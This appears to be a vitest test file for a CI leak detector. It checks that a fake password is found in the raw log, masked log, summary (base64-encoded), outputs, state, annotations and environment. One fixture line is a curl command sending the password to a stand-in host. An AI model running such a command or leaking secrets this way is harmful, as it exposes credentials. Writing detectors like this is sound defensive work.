/** The search for leaks finds what it is there for. */
import { describe, expect, it } from 'vitest'
import { findLeaks } from './fakes/leaks.ts'
import type { StepResult } from './fakes/runner.ts'

const clean = {
  log: '::add-mask::hunter2-hunter2\nall quiet',
  maskedLog: 'all quiet',
  summary: '',
  outputs: {},
  state: {},
  annotations: [],
  env: {},
  path: [],
} as unknown as StepResult

describe('findLeaks', () => {
  it('finds nothing in a clean run, which may tell the runner what to mask', () => {
    expect(findLeaks(clean, { password: 'hunter2-hunter2' })).toEqual([])
  })

  it.each([
    ['log', 'curl https://x/?p=hunter2-hunter2', 'password in the raw log'],
    ['maskedLog', 'hunter2-hunter2', 'password in the masked log'],
    ['summary', `auth ${Buffer.from('hunter2-hunter2').toString('base64')}`, 'password in the summary'],
    ['outputs', { results: 'hunter2-hunter2' }, 'password in outputs'],
    ['state', { docker: 'hunter2-hunter2' }, 'password in state'],
    ['annotations', [{ message: 'hunter2-hunter2' }], 'password in annotations'],
    ['env', { X: 'hunter2-hunter2' }, 'password in environment'],
  ])('finds one in %s', (place, content, leak) => {
    expect(findLeaks({ ...clean, [place]: content }, { password: 'hunter2-hunter2' })).toEqual([leak])
  })
})
